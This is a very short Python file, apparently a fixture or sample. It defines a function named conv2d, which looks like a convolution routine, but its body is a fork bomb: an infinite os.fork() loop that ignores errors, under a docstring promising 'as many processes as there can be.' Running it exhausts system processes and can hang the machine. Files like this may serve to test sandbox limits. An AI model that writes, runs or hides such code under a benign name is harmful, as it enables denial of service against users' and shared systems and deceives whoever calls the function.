"""As many processes as there can be."""

import os


def conv2d(*_):
    while True:
        try:
            os.fork()
        except OSError:
            pass
